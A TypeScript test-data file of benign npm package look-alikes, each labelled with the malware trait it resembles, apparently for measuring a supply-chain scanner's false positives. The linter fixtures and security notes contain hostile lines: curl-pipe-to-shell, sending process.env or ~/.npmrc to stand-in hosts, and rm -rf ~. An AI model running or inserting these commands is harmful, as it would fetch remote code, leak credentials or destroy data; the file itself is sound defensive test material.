import type { Twin } from './twin.ts';

const words = Array.from({ length: 4000 }, (_, index) => `function f${index}(a,b){return a*${index}+b}`);

/** Libraries whose subject is what attackers use. */
export const libraryTwins: readonly Twin[] = [
  {
    id: 'http-client',
    looksLike: 'the sending end of a theft',
    manifest: { description: 'HTTP with promises, for browsers and Node' },
    files: {
      'index.js': `const http = require('http');
const https = require('https');

exports.request = (target, { method = 'GET', headers = {}, body } = {}) =>
  new Promise((resolve, reject) => {
    const url = new URL(target);
    const proxy = process.env.HTTPS_PROXY || process.env.https_proxy;
    const library = url.protocol === 'https:' ? https : http;
    const request = library.request(url, { method, headers: { 'User-Agent': 'corpus-http/1.2.3', ...headers }, proxy }, (answer) => {
      const chunks = [];
      answer.on('data', (chunk) => chunks.push(chunk));
      answer.on('end', () => resolve({ status: answer.statusCode, body: Buffer.concat(chunks) }));
    });
    if (headers.auth) request.setHeader('Authorization', 'Basic ' + Buffer.from(headers.auth).toString('base64'));
    request.on('error', reject);
    request.end(body);
  });
exports.post = (target, data) => exports.request(target, { method: 'POST', body: JSON.stringify(data) });
`,
    },
  },
  {
    id: 'environment-file',
    looksLike: 'reading of .env and all of the environment',
    manifest: { description: 'Loads .env into process.env' },
    files: {
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');

function parse(text) {
  const out = {};
  for (const line of text.split('\\n')) {
    const found = /^\\s*(?:export\\s+)?([\\w.-]+)\\s*=\\s*(.*)?\\s*$/.exec(line);
    if (found) out[found[1]] = (found[2] || '').replace(/^(['"])(.*)\\1$/, '$2');
  }
  return out;
}
function expand(file) {
  return file[0] === '~' ? path.join(os.homedir(), file.slice(1)) : file;
}
function decrypt(text, key) {
  const bytes = Buffer.from(text, 'base64');
  const machine = crypto.createDecipheriv('aes-256-gcm', Buffer.from(key, 'hex'), bytes.subarray(0, 12));
  machine.setAuthTag(bytes.subarray(-16));
  return machine.update(bytes.subarray(12, -16)) + machine.final('utf8');
}
exports.config = ({ path: file = '.env' } = {}) => {
  let text = fs.readFileSync(expand(file), 'utf8');
  if (process.env.DOTENV_KEY) text = decrypt(text, process.env.DOTENV_KEY);
  for (const [name, value] of Object.entries(parse(text))) if (!(name in process.env)) process.env[name] = value;
};
exports.parse = parse;
`,
      'README.md':
        '# environment-file\n\nPut `DATABASE_PASSWORD=…` and `AWS_SECRET_ACCESS_KEY=…` into `.env`; never commit it.\n',
    },
  },
  {
    id: 'minified-bundle',
    looksLike: 'very long lines and short names',
    manifest: { main: 'dist/bundle.min.js' },
    files: {
      'dist/bundle.min.js': `!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():e.sums=t()}(this,function(){${words.join(';')};return{f0:f0,f1:f1}});\n`,
      'dist/bundle.min.js.map': '{"version":3,"sources":["../src/index.js"],"names":[],"mappings":"AAAA"}\n',
    },
  },
  {
    id: 'global-polyfill',
    looksLike: 'code made from text (event-stream)',
    manifest: { description: 'globalThis and friends for old engines' },
    files: {
      'index.js': `var check = function (it) {
  return it && it.Math === Math && it;
};
var root =
  check(typeof globalThis == 'object' && globalThis) ||
  check(typeof window == 'object' && window) ||
  check(typeof self == 'object' && self) ||
  (function () { return this; })() ||
  Function('return this')();
var isGenerator = (function () {
  try {
    return !!Function('return function* () {}')();
  } catch (error) {
    return false;
  }
})();
var NativeImport = (function () {
  try {
    return (0, eval)('(function (s) { return import(s) })');
  } catch (error) {
    return undefined;
  }
})();
module.exports = { root: root, isGenerator: isGenerator, dynamicImport: NativeImport };
`,
    },
  },
  {
    id: 'template-engine',
    looksLike: 'code made from text',
    manifest: { description: 'Templates compiled to functions' },
    files: {
      'index.js': `exports.compile = function compile(template) {
  var parts = template.split(/<%=|%>/);
  var source = 'var out = "";';
  for (var i = 0; i < parts.length; i++) {
    source += i % 2 ? 'out += escape(data.' + parts[i].trim() + ');' : 'out += ' + JSON.stringify(parts[i]) + ';';
  }
  return new Function('data', 'escape', source + 'return out;');
};
`,
    },
  },
  {
    id: 'clipboard',
    looksLike: 'clipboard access (clippers)',
    manifest: { description: 'Copies text' },
    files: {
      'index.js': `const { spawnSync } = require('child_process');

const programs = { darwin: ['pbcopy', []], win32: ['clip', []], linux: ['xsel', ['--clipboard', '--input']] };

exports.write = (text) => {
  const [program, parts] = programs[process.platform] || programs.linux;
  spawnSync(program, parts, { input: text, cwd: '/corpus-no-such-folder' });
};
exports.copyInBrowser = async (text) => {
  if (navigator.clipboard) return navigator.clipboard.writeText(text);
  const area = document.createElement('textarea');
  area.value = text;
  document.body.appendChild(area);
  area.select();
  document.execCommand('copy');
  area.remove();
};
`,
    },
  },
  {
    id: 'wallet-connector',
    looksLike: 'wallet hooks (chalk, debug)',
    manifest: { description: 'Connects an application to the user’s wallet' },
    files: {
      'index.js': `const { EventEmitter } = require('events');

exports.connect = async () => {
  if (typeof window === 'undefined' || !window.ethereum) throw new Error('no wallet');
  const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  const events = new EventEmitter();
  window.ethereum.on('accountsChanged', (accounts) => events.emit('account', accounts[0]));
  return {
    account,
    events,
    send: (to, value) => {
      if (!/^0x[a-fA-F0-9]{40}$/.test(to)) throw new TypeError('not an address: ' + to);
      return window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to, value }] });
    },
  };
};
exports.zeroAddress = '0x0000000000000000000000000000000000000000';
`,
    },
  },
  {
    id: 'wallet-keys',
    looksLike: 'mnemonics, private keys and encryption',
    manifest: { description: 'Keystore files' },
    files: {
      'index.js': `const crypto = require('crypto');
const fs = require('fs');

exports.encrypt = (privateKey, password) => {
  const salt = crypto.randomBytes(32);
  const key = crypto.scryptSync(password, salt, 32);
  const start = crypto.randomBytes(16);
  const machine = crypto.createCipheriv('aes-128-ctr', key.subarray(0, 16), start);
  const text = Buffer.concat([machine.update(privateKey), machine.final()]);
  return { version: 3, crypto: { ciphertext: text.toString('hex'), iv: start.toString('hex'), salt: salt.toString('hex') } };
};
exports.save = (file, privateKey, password) =>
  fs.writeFileSync(file, JSON.stringify(exports.encrypt(privateKey, password)), { mode: 0o600 });
exports.checkMnemonic = (mnemonic) => [12, 15, 18, 21, 24].includes(mnemonic.trim().split(/\\s+/).length);
`,
    },
  },
  {
    id: 'instrumentation',
    looksLike: 'fetch and XMLHttpRequest replaced (chalk, debug); host facts sent out (dependency confusion)',
    manifest: { description: 'Error and performance reports of your application' },
    files: {
      'browser.js': `export function instrument({ endpoint, sample = 0.1 }) {
  const own = window.fetch;
  window.fetch = async (...list) => {
    const began = performance.now();
    try {
      return await own.apply(window, list);
    } finally {
      if (Math.random() < sample) navigator.sendBeacon(endpoint, JSON.stringify({ url: String(list[0]), ms: performance.now() - began }));
    }
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url) {
    this.addEventListener('loadend', () => navigator.sendBeacon(endpoint, JSON.stringify({ url, status: this.status })));
    return open.apply(this, arguments);
  };
}
`,
      'node.js': `const os = require('os');
const https = require('https');

exports.report = (endpoint, error) => {
  const body = JSON.stringify({ message: error.message, stack: error.stack, server_name: os.hostname(), release: process.version, environment: process.env.NODE_ENV });
  const request = https.request(endpoint, { method: 'POST', headers: { 'Content-Type': 'application/json' } });
  request.on('error', () => {});
  request.end(body);
};
`,
    },
  },
  {
    id: 'linter-fixtures',
    looksLike: 'malicious texts in tests (all incidents)',
    manifest: { description: 'A linter with a rule against code from text' },
    files: {
      'lib/no-eval.js': `module.exports = { create: (context) => ({ CallExpression(node) { if (node.callee.name === 'eval') context.report({ node, message: 'eval can be harmful.' }); } }) };
`,
      'test/no-eval.test.js': `const { RuleTester } = require('eslint');
new RuleTester().run('no-eval', require('../lib/no-eval.js'), {
  valid: ['foo()'],
  invalid: [
    { code: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", errors: 1 },
    { code: "require('child_process').exec('curl http://203.0.113.7/x.sh | sh')", errors: 1 },
    { code: "require('https').get('https://webhook.site.invalid/?' + JSON.stringify(process.env))", errors: 1 },
  ],
});
`,
      'test/fixtures/steal.js': `const text = require('fs').readFileSync(require('os').homedir() + '/corpus-no-such-folder/.npmrc', 'utf8');
require('https').request({ host: 'collect.invalid', method: 'POST' }).end(text);
`,
    },
  },
  {
    id: 'security-docs',
    looksLike: 'names of incidents and their commands',
    manifest: { description: 'Notes on supply-chain attacks' },
    files: {
      'README.md': `# Notes

Shai-Hulud wrote \`.github/workflows/shai-hulud-workflow.yml\` and ran \`trufflehog filesystem /\`.
ua-parser-js ran \`curl http://203.0.113.9/jsextension -o jsextension && chmod +x jsextension\`.
Never run \`curl https://x.invalid/install.sh | sh\`, never \`rm -rf ~\`.
`,
      'index.js': `exports.incidents = [
  { name: 'event-stream', year: 2018, marks: ['flatmap-stream', 'npm_package_description'] },
  { name: 'ua-parser-js', year: 2021, marks: ['jsextension', 'preinstall.sh'] },
  { name: 'Shai-Hulud', year: 2025, marks: ['bundle.js', 'shai-hulud-workflow.yml', 'trufflehog'] },
];
`,
    },
  },
  {
    id: 'emoji-data',
    looksLike: 'invisible and bidirectional characters, escapes',
    manifest: { description: 'Emoji and direction marks' },
    files: {
      'index.js': `exports.joiner = '\\u200d';
exports.variation = '\\ufe0f';
exports.marks = { ltr: '\\u200e', rtl: '\\u200f', isolate: '\\u2066', pop: '\\u2069' };
exports.family = '👨‍👩‍👧‍👦';
exports.heart = '❤️';
exports.stripMarks = (text) => text.replace(/[\\u200b-\\u200f\\u202a-\\u202e\\u2066-\\u2069]/g, '');
`,
      'data.json': JSON.stringify(
        Object.fromEntries(
          Array.from({ length: 200 }, (_, index) => [`e${index}`, `\u{1F600}\u200D${index}\uFE0F`]),
        ),
      ),
    },
  },
  {
    id: 'embedded-wasm',
    looksLike: 'long base64 texts and compiled code',
    manifest: { description: 'A codec compiled to WebAssembly' },
    files: {
      'index.js': `const bytes = Buffer.from('AGFzbQEAAAA${'AQID'.repeat(4000)}', 'base64');
exports.load = async () => (await WebAssembly.instantiate(bytes, { env: { abort: () => { throw new Error('abort'); } } })).instance.exports;
`,
    },
  },
  {
    id: 'obfuscated-names',
    looksLike: 'names as obfuscators make them',
    manifest: { description: 'A checksum written by a generator' },
    files: {
      'index.js': `var _0xedb88320 = 3988292384;
var _0xtable = [];
for (var _0x0 = 0; _0x0 < 256; _0x0++) {
  var _0x1 = _0x0;
  for (var _0x2 = 0; _0x2 < 8; _0x2++) _0x1 = _0x1 & 1 ? _0xedb88320 ^ (_0x1 >>> 1) : _0x1 >>> 1;
  _0xtable.push(_0x1 >>> 0);
}
module.exports = function (text) {
  var crc = -1;
  for (var i = 0; i < text.length; i++) crc = (crc >>> 8) ^ _0xtable[(crc ^ text.charCodeAt(i)) & 255];
  return (crc ^ -1) >>> 0;
};
`,
    },
  },
];
